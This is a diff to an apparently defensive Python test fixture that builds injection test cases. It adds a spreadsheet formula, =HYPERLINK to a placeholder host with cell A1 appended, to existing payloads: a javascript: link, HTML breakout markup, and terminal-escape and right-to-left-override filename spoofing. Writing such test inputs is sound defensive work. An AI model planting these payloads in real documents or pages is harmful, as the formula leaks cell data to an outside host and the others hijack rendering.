@@ -12,13 +12,16 @@ MARKDOWN = "![picture](http://broken.invalid/b.png) [link](javascript:window.bro
 BREAKOUT = '</div></section><h1 id="broken">heading</h1><a href="http://broken.invalid">here</a>'
 CONTROL = "\x1b[31mred\x1b[0m abc\u202egnp.exe\u202c zero\u200bwidth"
 LONG = "x" * 100_000
+FORMULA = '=HYPERLINK("http://broken.invalid/?"&A1,"click")'
 
 
 def pairs(fingerprint: str) -> list[Pair]:
     """One pair a kind of attack, newest last; the candidate and the request carry it."""
     return [
         _pair(fingerprint, 900_000 + index, text)
-        for index, text in enumerate((SCRIPT, MARKDOWN, BREAKOUT, CONTROL, LONG, f'{{"{SCRIPT}": "{MARKDOWN}"}}'))
+        for index, text in enumerate(
+            (SCRIPT, MARKDOWN, BREAKOUT, CONTROL, LONG, f'{{"{SCRIPT}": "{MARKDOWN}"}}', FORMULA)
+        )
     ]
 
 
